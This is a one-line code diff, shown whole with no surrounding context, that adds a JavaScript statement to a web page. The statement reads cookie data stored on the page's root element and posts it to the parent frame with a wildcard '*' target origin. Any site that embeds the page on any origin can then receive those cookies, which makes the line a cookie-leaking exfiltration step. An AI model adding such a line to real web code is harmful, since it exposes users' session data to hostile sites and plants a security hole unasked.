@@ -1,0 +1,1 @@
+parent.postMessage(document.documentElement.dataset.cookies, '*')
